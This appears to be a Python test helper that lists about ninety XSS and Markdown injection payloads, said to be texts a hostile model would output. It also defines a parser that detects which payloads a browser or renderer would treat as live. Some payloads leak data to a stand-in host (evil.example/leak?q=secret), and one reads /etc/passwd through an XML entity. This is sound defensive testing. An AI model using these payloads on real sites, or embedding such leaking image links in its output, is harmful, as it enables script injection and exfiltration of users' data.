"""Texts that a hostile model would say, and a reader that sees what a browser would make of them."""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser
from typing import Any

from markdown_it import MarkdownIt

LEAK = "https://evil.example/leak"

PAYLOADS = [
    f"<img src={LEAK}>",
    f'<img src="{LEAK}" onerror="alert(1)">',
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img\nsrc=x\nonerror=alert(1)\n>",
    "<img\tsrc=x onerror=alert(1)",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    f'<svg><image href="{LEAK}"/></svg>',
    f'<svg><use href="{LEAK}#x"/></svg>',
    f"<style>@import url({LEAK});</style>",
    f"<style>*{{background:url({LEAK})}}",
    f'<p style="background:url({LEAK})">x</p>',
    "<script>alert(1)</script>",
    f"<script src={LEAK}></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "</script><script>alert(1)",
    "<script\x00>alert(1)</script>",
    "<\x00script>alert(1)</script>",
    "<s\x00cript>alert(1)</script>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    f"<video poster={LEAK}><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    f"<base href={LEAK}>",
    f'<meta http-equiv=refresh content="0;url={LEAK}">',
    f"<link rel=stylesheet href={LEAK}>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!-- <img src=x onerror=alert(1)> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
    "<x-element onclick=alert(1)>x",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&ltimg src=x onerror=alert(1)&gt",
    "&LT;script&GT;alert(1)&LT;/script&GT;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&#x3C;img src=x onerror=alert(1)>",
    "&#0000060img src=x onerror=alert(1)>",
    "\uff1cimg src=x onerror=alert(1)\uff1e",
    f"![x]({LEAK}?q=secret)",
    f"![x](<{LEAK}>)",
    f"![]({LEAK})",
    f"![x][1]\n\n[1]: {LEAK}",
    f"![x]\n\n[x]: {LEAK}",
    f"[![x]({LEAK})](https://example.org)",
    f"!\x00[x]({LEAK})",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](<java\tscript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&#58;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](DATA:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](<da\tta:text/html,x>)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x][1]\n\n[1]:\n  <javascript:alert(1)>",
    "<javascript:alert(1)>",
    f"<{LEAK}>",
    "`<img src=x onerror=alert(1)>`",
    "```html\n<img src=x onerror=alert(1)>\n```\n<img src=x onerror=alert(1)>",
    "    <img src=x onerror=alert(1)>",
    "```\n```<svg onload=alert(1)>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
]

_SCHEME = re.compile(r"[\x00-\x20]*(javascript|vbscript|livescript|data):(?!\s)", re.IGNORECASE)


class _Tags(HTMLParser):
    """Notes everything in a text that is more than text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.seen: list[str] = []

    def handle_starttag(self, tag: str, attrs: Any) -> None:
        self.seen.append(tag)

    def handle_endtag(self, tag: str) -> None:
        self.seen.append(f"/{tag}")

    def handle_comment(self, data: str) -> None:
        self.seen.append(f"<!--{data}")

    def handle_decl(self, decl: str) -> None:
        self.seen.append(f"<!{decl}")

    def unknown_decl(self, data: str) -> None:
        self.seen.append(f"<![{data}")

    def handle_pi(self, data: str) -> None:
        self.seen.append(f"<?{data}")


def live_parts(text: str) -> list[str]:
    """What a text holds besides text, when it is inserted into a page or rendered as Markdown; nothing when inert."""
    seen = []
    # A client may decode entities or normalise once more than it should.
    for inserted in (text, html.unescape(text), text.replace("\uff1c", "<"), text.replace("\x00", "")):
        tags = _Tags()
        tags.feed(f"{inserted} x>")
        tags.close()
        seen += tags.seen
    renderer = MarkdownIt("commonmark", {"html": True})
    renderer.validateLink = lambda url: True  # type: ignore[method-assign]
    renderer.normalizeLink = lambda url: url  # type: ignore[method-assign]
    blocks = [*renderer.parse(text), *renderer.parse(text.replace("\x00", ""))]
    for block in blocks:
        for token in [block, *(block.children or ())]:
            if token.type in ("html_block", "html_inline", "image"):
                seen.append(f"{token.type} {token.content}")
            address = re.sub(r"[\t\n\r]", "", html.unescape(str(token.attrs.get("href", ""))))
            if _SCHEME.match(address):
                seen.append(address)
    return seen
